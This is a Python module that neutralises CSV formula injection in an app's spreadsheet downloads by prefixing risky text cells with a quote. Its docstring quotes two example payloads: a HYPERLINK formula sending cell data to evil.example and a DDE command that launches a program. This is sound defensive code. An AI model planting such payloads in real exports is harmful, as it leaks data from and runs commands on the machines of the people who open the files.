"""CSV downloads that are safe to open in a spreadsheet.

Excel, LibreOffice Calc and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (and skip a leading tab or carriage return before looking). The app writes
text that people typed into its downloads: names, departments, topics, survey answers. A
participant named ``=HYPERLINK("https://evil.example/?"&B2, "Open")`` or a survey answer
``=cmd|' /C calc'!A0`` would otherwise run on the machine of the HR admin or sponsor who opens
the file ("CSV injection"). Following OWASP's advice, such a text cell gets a leading single
quote, which spreadsheets show as text. Numbers (a negative NPS, say) are left as they are.

Every CSV writer of the project goes through :func:`csv_writer` (a test greps for others).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet will show it, never run it: text that a spreadsheet would read
    as a formula gets a leading ``'``; anything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` with every cell passed through :func:`neutralise`."""

    def __init__(self, out: _Writable) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable) -> SafeWriter:
    return SafeWriter(out)
